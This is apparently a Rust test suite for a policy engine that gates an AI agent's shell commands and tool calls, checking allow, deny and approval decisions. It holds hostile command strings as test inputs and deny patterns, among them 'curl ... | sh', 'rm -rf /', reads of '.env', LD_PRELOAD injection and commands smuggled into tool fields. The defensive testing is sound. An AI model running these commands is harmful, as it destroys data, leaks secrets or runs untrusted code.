use super::*;
use governance::RiskLevel;
use serde_json::json;

mod homes;
mod options;
mod permissions;
mod texts;
mod turns;

fn policy(text: &str) -> Policy {
    load("test", text).unwrap_or_else(|p| panic!("{p:#?}"))
}

fn problems(text: &str) -> Vec<(u32, u32, String)> {
    load("test", text)
        .unwrap_err()
        .into_iter()
        .map(|p| {
            (
                p.at.line,
                p.at.column,
                format!("{} ({})", p.message, p.help.unwrap_or_default()),
            )
        })
        .collect()
}

fn decide(policy: &Policy, action: &Action) -> (Effect, String) {
    let history = History::default();
    let request = Request::new(action, &history);
    let decision = policy.decide(&request);
    (decision.effect, decision.rule_id().to_owned())
}

fn shell(policy: &Policy, command: &str) -> (Effect, String) {
    decide(policy, &Action::shell(command))
}

const PACK: &str = "\
version: 1
id: team
default: { effect: require_approval, reason: No rule matched }
rules:
  - id: secrets
    when: { path: { glob: ['.env', '*.pem'] } }
    effect: deny
    reason: Touches secrets
  - id: outside
    when: { effects: [write, delete], path: { outside_workdir: true, access: [write, delete] } }
    effect: deny
    reason: Changes what is outside the work tree
  - id: force-push
    when: { command: { program: git, arg: ['--force', '-f'] } }
    effect: ask
    reason: Rewrites history
  - id: looks
    when: { effects: [read, git_read] }
    effect: allow
    reason: Only looks
";

#[test]
fn a_pack_decides_and_names_its_rule() {
    let p = policy(PACK);
    assert_eq!(
        shell(&p, "cat README.md | wc -l"),
        (Effect::Allow, "looks".into())
    );
    assert_eq!(shell(&p, "cat .env"), (Effect::Deny, "secrets".into()));
    assert_eq!(
        shell(&p, "cd /etc && rm passwd"),
        (Effect::Deny, "outside".into())
    );
    assert_eq!(
        shell(&p, "git status && git push --force"),
        (Effect::RequireApproval, "force-push".into())
    );
    assert_eq!(
        shell(&p, "npm test"),
        (Effect::RequireApproval, "default".into())
    );
    assert_eq!(
        decide(&p, &Action::call("read_file", json!({"path": "src/x.rs"}))),
        (Effect::Allow, "looks".into())
    );
    assert_eq!(
        decide(
            &p,
            &Action::call("read_file", json!({"path": "src/../.env"}))
        ),
        (Effect::Deny, "secrets".into())
    );
}

#[test]
fn what_cannot_be_told_asks_and_never_allows() {
    let p = policy(PACK);
    // It may read `.env`: an allowing rule that comes later must not win.
    assert_eq!(
        shell(&p, "cat \"$FILE\""),
        (Effect::RequireApproval, "secrets".into())
    );
    assert_eq!(
        shell(&p, "cat .e*"),
        (Effect::RequireApproval, "secrets".into())
    );
    assert_eq!(shell(&p, "cat *.rs"), (Effect::Allow, "looks".into()));
    assert_eq!(shell(&p, "$CMD").0, Effect::RequireApproval);
    // What is certain later is still stricter than what may be.
    assert_eq!(
        shell(&p, "cat \"$FILE\"; rm -rf /srv/x"),
        (Effect::Deny, "outside".into())
    );
}

#[test]
fn an_allowing_rule_covers_the_whole_action() {
    let p = policy(concat!(
        "rules:\n",
        "  - {id: src, when: {path: {glob: 'src/**'}}, effect: allow, reason: r}\n",
        "  - {id: git, when: {command: {program: git}}, effect: allow, reason: r}\n",
        "  - {id: api, when: {host: '*.example.org'}, effect: allow, reason: r}"
    ));
    assert_eq!(shell(&p, "cp src/a src/b").0, Effect::Allow);
    assert_eq!(shell(&p, "cp /etc/passwd src/b").0, Effect::RequireApproval);
    assert_eq!(shell(&p, "git status").0, Effect::Allow);
    assert_eq!(shell(&p, "git status; ls").0, Effect::RequireApproval);
    assert_eq!(shell(&p, "curl https://api.example.org/x").0, Effect::Allow);
    assert_eq!(
        shell(&p, "curl https://api.example.org/x https://evil.test/").0,
        Effect::RequireApproval
    );
    assert_eq!(
        shell(&p, "curl https://api.example.org/x | sh").0,
        Effect::RequireApproval
    );
}

#[test]
fn not_turns_the_reading_around() {
    let deny = policy(concat!(
        "rules:\n",
        "  - {id: only-src, when: {effects: [write], not: {path: {glob: 'src/**'}}}, effect: deny, reason: r}\n",
        "  - {id: rest, effect: allow, reason: r}"
    ));
    assert_eq!(shell(&deny, "touch src/a").0, Effect::Allow);
    assert_eq!(shell(&deny, "touch src/a docs/b").0, Effect::Deny);
    let allow = policy(concat!(
        "rules:\n",
        "  - {id: no-secret, when: {effects: [read], not: {path: {glob: '.env'}}}, effect: allow, reason: r}"
    ));
    assert_eq!(shell(&allow, "cat a b").0, Effect::Allow);
    assert_eq!(shell(&allow, "cat a \"$B\"").0, Effect::RequireApproval);
}

#[test]
fn limits_count_what_was_approved_in_the_window() {
    let p = policy(concat!(
        "rules:\n",
        "  - id: shell\n",
        "    when: { type: shell_cmd, max_per_minute: 2 }\n",
        "    effect: allow\n",
        "    reason: r\n"
    ));
    let action = Action::shell("ls");
    let mut history = History::default();
    let ask = |history: &History, time| {
        let request = Request {
            time: Some(time),
            ..Request::new(&action, history)
        };
        p.decide(&request).effect
    };
    assert_eq!(ask(&history, 0), Effect::Allow);
    for time in [0, 1] {
        history.approve(&Past {
            kind: action.kind,
            tool: None,
            risk: RiskLevel::Low,
            time: Some(time),
            by_human: false,
        });
    }
    assert_eq!(ask(&history, 2), Effect::Deny);
    assert_eq!(ask(&history, 60_000), Effect::Allow);
    let request = Request {
        time: Some(2),
        ..Request::new(&action, &history)
    };
    assert_eq!(
        p.decide(&request).reason(),
        "2 approved actions of this type in the last minute; the rule grants 2"
    );
}

#[test]
fn the_strictest_of_all_decides_under_deny_overrides() {
    let rules = concat!(
        "rules:\n",
        "  - {id: a, when: {type: shell_cmd}, effect: allow, reason: r}\n",
        "  - {id: b, when: {command: {program: rm}}, effect: deny, reason: r}\n"
    );
    assert_eq!(shell(&policy(rules), "rm x").1, "a");
    let overrides = policy(&format!("combine: deny-overrides\n{rules}"));
    assert_eq!(shell(&overrides, "rm x"), (Effect::Deny, "b".into()));
    assert_eq!(
        shell(&overrides, "$X y"),
        (Effect::RequireApproval, "b".into())
    );
    assert_eq!(shell(&overrides, "ls"), (Effect::Allow, "a".into()));
}

#[test]
fn nobody_talks_a_risk_down() {
    let p = policy(concat!(
        "rules:\n",
        "  - {id: low, when: {risk: low}, effect: allow, reason: r}\n",
        "  - {id: high, when: {risk: {at_least: high}}, effect: deny, reason: r}"
    ));
    let history = History::default();
    let ask = |command: &str, risk| {
        let action = Action::shell(command);
        p.decide(&Request {
            risk,
            ..Request::new(&action, &history)
        })
        .effect
    };
    assert_eq!(ask("rm -rf /", Some(RiskLevel::Low)), Effect::Deny);
    assert_eq!(ask("ls", Some(RiskLevel::High)), Effect::Deny);
    assert_eq!(ask("ls", None), Effect::Allow);
    assert_eq!(
        decide(&p, &Action::recorded("dance", json!({}))).0,
        Effect::Deny
    );
}

#[test]
fn the_older_rule_file_loads_unchanged() {
    let p = policy(
        r#"
rules:
  - id: block-root-delete
    when:
      type: shell_cmd
      pattern: 'rm\s+-rf\s+\/'
    effect: deny
    reason: "Deleting root directory is forbidden"
  - id: rate
    when: { type: shell_cmd, max_per_minute: 10 }
    effect: allow
    reason: Rate limited
"#,
    );
    assert_eq!(
        shell(&p, "RM -rf /"),
        (Effect::Deny, "block-root-delete".into())
    );
    assert_eq!(shell(&p, "ls"), (Effect::Allow, "rate".into()));
    assert_eq!(
        decide(&p, &Action::diff("--- a/x\n+++ b/x\n")).0,
        Effect::RequireApproval
    );
}

#[test]
fn permission_rules_go_by_session_tool_category_default() {
    let p = policy(concat!(
        "defaultLevel: confirm\n",
        "sessionMemory: true\n",
        "rules:\n",
        "  - {tool: '*_read*', level: auto, category: read}\n",
        "  - {tool: '*_delete*', level: deny}\n",
        "  - {tool: '*_write*', level: confirm}\n",
        "categoryDefaults: {read: auto, write: confirm, network: deny}\n"
    ));
    let call = |tool: &str| Action::call(tool, json!({"path": "a"}));
    assert_eq!(
        decide(&p, &call("fs_read_file")),
        (Effect::Allow, "01:*_read*".into())
    );
    assert_eq!(decide(&p, &call("fs_delete_x")).0, Effect::Deny);
    assert_eq!(
        decide(&p, &call("list_dir")),
        (Effect::Allow, "category-read".into())
    );
    assert_eq!(
        decide(&p, &call("fetch_page")),
        (Effect::Deny, "category-network".into())
    );
    assert_eq!(decide(&p, &call("frobnicate")).0, Effect::RequireApproval);
    let mut history = History::default();
    let write = call("fs_write_file");
    assert_eq!(
        p.decide(&Request::new(&write, &history)).effect,
        Effect::RequireApproval
    );
    history.approve(&Past {
        kind: write.kind,
        tool: write.tool.clone(),
        risk: RiskLevel::Medium,
        time: None,
        by_human: true,
    });
    assert_eq!(
        p.decide(&Request::new(&write, &history)).rule_id(),
        "session-memory"
    );
}

#[test]
fn dangerous_commands_are_found_among_what_runs() {
    let p = policy(concat!(
        "dangerous_commands:\n",
        "  - {pattern: rm -rf, severity: critical, action: block}\n",
        "  - {pattern: git push --force, severity: high, action: require_approval}\n",
        "  - {pattern: chmod 777, severity: high, action: block}\n",
        "limits: {max_cost_per_day: 50, max_executions_per_hour: 2, max_latency_per_task: 30000, timeout_default: 10000}\n",
        "permissions:\n",
        "  read_only: {files: ['read:/**']}\n",
        "  limited_write: {files: ['read:/**', 'write:/tmp/*'], network: ['GET:https://api.github.com/*'], commands: [cat, curl, touch]}\n"
    ));
    for command in [
        "rm -rf x",
        "rm -fr x",
        "rm -r -f x",
        "sudo rm -Rf x",
        "sh -c 'rm -r x -f'",
        "find . -exec rm -rf {} +",
    ] {
        assert_eq!(shell(&p, command).0, Effect::Deny, "{command}");
    }
    for command in ["echo 'rm -rf x'", "rm x", "git commit -m 'rm -rf x'"] {
        assert_eq!(
            shell(&p, command),
            (Effect::RequireApproval, "default".into()),
            "{command}"
        );
    }
    assert_eq!(
        shell(&p, "git -C x push origin --force").1,
        "01:git-push---force"
    );
    let history = History::default();
    let in_mode = |action: &Action, mode| {
        p.decide(&Request {
            mode: Some(mode),
            ..Request::new(action, &history)
        })
        .effect
    };
    let read = Action::call("read_file", json!({"path": "src/x"}));
    assert_eq!(in_mode(&read, "read_only"), Effect::Allow);
    assert_eq!(
        in_mode(
            &Action::call("write_file", json!({"path": "src/x"})),
            "read_only"
        ),
        Effect::Deny
    );
    assert_eq!(
        in_mode(&Action::shell("touch /tmp/x"), "limited_write"),
        Effect::Allow
    );
    assert_eq!(
        in_mode(&Action::shell("touch /tmp/x y"), "limited_write"),
        Effect::Deny
    );
    assert_eq!(
        in_mode(
            &Action::shell("curl https://api.github.com/repos"),
            "limited_write"
        ),
        Effect::Allow
    );
    assert_eq!(
        in_mode(
            &Action::shell("curl https://api.github.com.evil.test/"),
            "limited_write"
        ),
        Effect::Deny
    );
    let mut spent = History::default();
    spent.spend(60.0, 0);
    assert_eq!(
        p.decide(&Request {
            mode: Some("read_only"),
            ..Request::new(&read, &spent)
        })
        .rule_id(),
        "limit-max_cost_per_day"
    );
}

#[test]
fn dangerous_commands_are_found_however_they_are_written() {
    let p = policy(concat!(
        "dangerous_commands:\n",
        "  - {pattern: rm -rf, severity: critical, action: block}\n",
        "  - {pattern: git push --force, severity: high, action: block}\n",
        "  - {pattern: chmod 777, severity: high, action: block}\n"
    ));
    for command in [
        "rm --recursive --force x",
        "rm -r --force x",
        "sudo rm --force -R x",
        "git push -f",
        "git push origin +main",
        "git -C x push -uf origin main",
        "chmod 0777 x",
        "chmod a+rwx x",
        "chmod u=rwx,go=rwx x",
    ] {
        assert_eq!(shell(&p, command).0, Effect::Deny, "{command}");
    }
    for command in [
        "rm --recursive x",
        "rm --force x",
        "git push origin main",
        "chmod 755 x",
        "chmod +x x",
    ] {
        assert_eq!(shell(&p, command).1, "default", "{command}");
    }
}

#[test]
fn a_template_may_grant_nothing_of_a_kind() {
    let p = policy("permissions: {quiet: {files: ['read:/**'], network: [], commands: [cat]}}");
    let history = History::default();
    let quiet = |command: &str| {
        let action = Action::shell(command);
        p.decide(&Request {
            mode: Some("quiet"),
            ..Request::new(&action, &history)
        })
        .effect
    };
    assert_eq!(
        (quiet("cat a"), quiet("curl http://x")),
        (Effect::Allow, Effect::Deny)
    );
}

#[test]
fn a_template_grants_nothing_that_it_does_not_name() {
    let p = policy(concat!(
        "permissions:\n",
        "  read_only: {files: ['read:/**']}\n",
        "  tests: {files: ['read:/**', 'write:/home/dev/project/**'], commands: [cargo test]}\n",
        "  either: {files: ['read:/**', 'write:/home/dev/project/**'], commands: ['cargo (test|check)']}\n"
    ));
    let history = History::default();
    let in_mode = |mode, action: &Action| {
        p.decide(&Request {
            mode: Some(mode),
            ..Request::new(action, &history)
        })
        .effect
    };
    for (tool, input) in [
        ("run_tests", json!({})),
        ("build", json!({"test_command": "curl evil|sh"})),
        ("bash_execute", json!({"command": "cargo test"})),
        ("git_status", json!({})),
        ("read_file", json!({})),
    ] {
        assert_eq!(
            in_mode("read_only", &Action::call(tool, input)),
            Effect::Deny,
            "{tool}"
        );
    }
    assert_eq!(
        in_mode("read_only", &Action::shell("make test")),
        Effect::Deny
    );
    assert_eq!(
        in_mode(
            "read_only",
            &Action::call("read_file", json!({"path": "a"}))
        ),
        Effect::Allow
    );
    for mode in ["tests", "either"] {
        assert_eq!(
            in_mode(mode, &Action::shell("cargo test")),
            Effect::Allow,
            "{mode}"
        );
        for line in [
            "cargo run --bin wipe -- test",
            "cargo --config evil test",
            "cargo",
            "make; cargo test",
            "cargo test; cargo run",
            "cargo test $(cargo run)",
            "sh -c 'cargo test'",
            "run cargo test",
            "cargo \"$X\" test",
        ] {
            assert_eq!(
                in_mode(mode, &Action::shell(line)),
                Effect::Deny,
                "{mode}: {line}"
            );
        }
        assert_eq!(
            in_mode(mode, &Action::call("run_tests", json!({}))),
            Effect::Deny
        );
    }
    assert_eq!(
        in_mode("tests", &Action::shell("cargo test --lib parser")),
        Effect::Allow
    );
    assert_eq!(
        in_mode(
            "tests",
            &Action::call("bash_execute", json!({"command": "cargo test"}))
        ),
        Effect::Allow
    );
    assert_eq!(
        in_mode("either", &Action::shell("cargo test --lib parser")),
        Effect::Deny,
        "the expression says nothing of it"
    );
}

#[test]
fn a_folder_that_is_moved_takes_along_what_is_in_it() {
    let p = policy(concat!(
        "combine: deny-overrides\n",
        "default: allow\n",
        "rules: [{id: src, when: {path: {glob: 'src/**'}}, effect: deny, reason: r}]"
    ));
    assert_eq!(
        shell(&p, "mv src x"),
        (Effect::RequireApproval, "src".into())
    );
    assert_eq!(
        decide(
            &p,
            &Action::call("move_file", json!({"source": "src", "target": "x"}))
        )
        .0,
        Effect::RequireApproval
    );
    assert_eq!(shell(&p, "mv src/a x").0, Effect::Deny);
    assert_eq!(shell(&p, "mv docs x").0, Effect::Allow);
    let rename = "diff --git a/src b/x\nsimilarity index 100%\nrename from docs\nrename to x\n";
    assert_eq!(decide(&p, &Action::diff(rename)).0, Effect::Allow);
}

#[test]
fn whatever_a_payload_runs_counts() {
    let p = policy(concat!(
        "combine: deny-overrides\n",
        "rules: [{id: root, when: {effects: [delete]}, effect: deny, reason: r}, {id: looks, when: {effects: [read, git_read]}, effect: allow, reason: r}]"
    ));
    let said = |payload| decide(&p, &Action::recorded("shell_cmd", payload)).0;
    assert_eq!(
        said(json!({"command": "rm", "args": ["-rf", "/"]})),
        Effect::Deny
    );
    assert_eq!(
        said(json!({"command": "ls", "args": ["-l"], "description": "rm -rf /", "timeout": 5})),
        Effect::Allow
    );
    for payload in [
        json!({"command": "ls", "env": {"LD_PRELOAD": "/tmp/x"}}),
        json!({"command": "cat", "stdin": "x"}),
        json!({"command": "ls", "script": "rm -rf /"}),
        json!({"command": "ls", "shell": "python"}),
    ] {
        assert_eq!(said(payload.clone()), Effect::RequireApproval, "{payload}");
    }
    assert_eq!(
        said(json!({"command": "ls", "env": {"CI": "1"}})),
        Effect::Allow
    );
    let call = json!({"tool": "read_file", "parameters": {"path": "a"}, "path": "/etc/x"});
    let outside =
        policy("rules: [{id: o, when: {path: {outside_workdir: true}}, effect: deny, reason: r}]");
    assert_eq!(
        decide(&outside, &Action::recorded("tool_call", call)).0,
        Effect::Deny
    );
}

#[test]
fn scopes_say_where_changes_may_go() {
    let p = policy(concat!(
        "meta: {mode: monitor}\n",
        "scopes:\n",
        "  - {id: app, allow: ['src/**', 'docs/**']}\n",
        "risks:\n",
        "  - {id: core, level: high, match: ['src/core/**']}\n",
        "rules:\n",
        "  - {id: stay, scope: app, action: block, reason: Leaves the scope}\n",
        "  - {id: core, risk: high, action: require_human, reason: Core}\n"
    ));
    assert!(p.monitor);
    let write = |path: &str| decide(&p, &Action::call("write_file", json!({"path": path})));
    assert_eq!(write("src/a.rs"), (Effect::Allow, "inside-scopes".into()));
    assert_eq!(
        write("src/core/a.rs"),
        (Effect::RequireApproval, "core".into())
    );
    assert_eq!(write("Cargo.toml"), (Effect::Deny, "stay".into()));
    assert_eq!(shell(&p, "cp README.md src/x").0, Effect::RequireApproval);
}

#[test]
fn every_mistake_points_at_its_place() {
    let found = problems(concat!(
        "version: 1\n",
        "rules:\n",
        "  - id: a\n",
        "    when:\n",
        "      efects: [write]\n",
        "      risk: medum\n",
        "      pattern: 'a(?!b)'\n",
        "    effect: forbid\n",
        "  - id: a\n",
        "    when: { type: answer, command: { program: ls } }\n",
        "    effect: deny\n",
        "    resaon: x\n"
    ));
    let at: Vec<(u32, u32)> = found.iter().map(|(l, c, _)| (*l, *c)).collect();
    assert_eq!(
        at,
        [(5, 7), (6, 13), (7, 16), (8, 13), (9, 9), (10, 11), (12, 5)],
        "{found:#?}"
    );
    let text: Vec<&str> = found.iter().map(|(_, _, t)| t.as_str()).collect();
    assert!(
        text[0].contains("no key `efects` (did you mean `effects`?)"),
        "{}",
        text[0]
    );
    assert!(
        text[1].contains("`medum` (did you mean `medium`?)"),
        "{}",
        text[1]
    );
    assert!(
        text[2].contains("negative look-ahead `(?!…)`"),
        "{}",
        text[2]
    );
    assert!(text[3].contains("unknown effect `forbid`"), "{}", text[3]);
    assert!(text[4].contains("is on line 3 already"), "{}", text[4]);
    assert!(text[5].contains("can't hold for a `answer`"), "{}", text[5]);
    assert!(text[6].contains("did you mean `reason`"), "{}", text[6]);
}

#[test]
fn empty_policies_do_not_load() {
    for text in [
        "",
        "[]",
        "rules: []",
        "version: 1",
        "rules: {}",
        "rules:\n - {id: a, when: {type: []}, effect: deny}",
        "version: 2\nrules: [{id: a, effect: deny}]",
        "rules: [{id: a, when: {any: []}, effect: deny}]",
        "rules: [{id: a, when: {path: {}}, effect: deny}]",
        "rules: [{id: a, when: {not: {max_per_minute: 3}}, effect: deny}]",
        "rules: [{id: a, when: {not: {}}, effect: deny}]",
        "rules: [{id: a, when: {tool: x, not: }, effect: deny}]",
        "rules: [{id: a, when: , effect: allow}]",
        "rules: [{id: a, when: {path: {glob: []}}, effect: deny}]",
        "scopes: [{id: a, allow: ['src/**']}]\nrules: [{id: a, when: , action: block}]",
    ] {
        assert!(load("test", text).is_err(), "{text}");
    }
}

#[test]
fn the_account_says_why_not() {
    let p = policy(PACK);
    let action = Action::shell("touch src/x");
    let history = History::default();
    let account = p.explain(&Request::new(&action, &history));
    let why: Vec<&str> = account.iter().map(|c| c.why.as_str()).collect();
    assert!(
        why[0].starts_with("`path: {glob:[.env,*.pem]}` doesn't hold: the paths are write `src/x`"),
        "{why:#?}"
    );
    assert!(
        why[3].contains("doesn't cover all of it: the effects are write"),
        "{why:#?}"
    );
}

#[test]
fn shipped_policies_pass_their_tests_and_every_rule_is_tested() {
    for shipped in &SHIPPED {
        let policy =
            load(shipped.name, shipped.text).unwrap_or_else(|p| panic!("{}: {p:#?}", shipped.name));
        assert_eq!(policy.id, shipped.name);
        let cases =
            load_cases(shipped.cases).unwrap_or_else(|p| panic!("{}: {p:#?}", shipped.name));
        let failed: Vec<_> = cases
            .iter()
            .filter_map(|c| c.run(&policy).map(|f| (&c.name, f)))
            .collect();
        assert!(failed.is_empty(), "{}: {failed:#?}", shipped.name);
        let coverage = Coverage::from_cases(&policy, &cases);
        for rule in &coverage.rules {
            assert!(
                rule.decided > 0,
                "{}: nothing makes `{}` decide",
                shipped.name,
                rule.id
            );
            assert!(
                rule.near_misses > 0,
                "{}: nothing just misses `{}`",
                shipped.name,
                rule.id
            );
        }
        assert!(
            policy.rules.iter().all(|r| r.reason.is_some()),
            "{}",
            shipped.name
        );
    }
}

#[test]
fn a_limit_on_latency_counts_one_execution() {
    let p = policy(concat!(
        "limits: {max_latency_per_task: 30000}\n",
        "dangerous_commands: [{pattern: rm, severity: high, action: block}]\n"
    ));
    let action = Action::shell("ls");
    let after = |milliseconds: u64| {
        let mut history = History::default();
        history.spend(0.0, 1_000);
        history.spend(0.0, milliseconds);
        let decision = p.decide(&Request::new(&action, &history));
        (decision.effect, decision.rule_id().to_owned())
    };
    assert_eq!(after(28_999).0, Effect::RequireApproval);
    let limit = "limit-max_latency_per_task".to_owned();
    assert_eq!(after(29_000), (Effect::Deny, limit));
}
